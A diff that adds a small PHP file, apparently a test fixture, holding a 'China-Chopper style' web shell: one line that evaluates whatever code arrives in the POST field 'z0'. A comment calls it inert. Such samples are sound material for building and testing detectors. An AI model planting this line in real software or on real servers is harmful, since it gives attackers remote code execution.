@@ -1,0 +1,4 @@
+<?php
+// test sample: China-Chopper style one-liner (inert text, no server runs it)
+@eval($_POST['z0']);
+?>
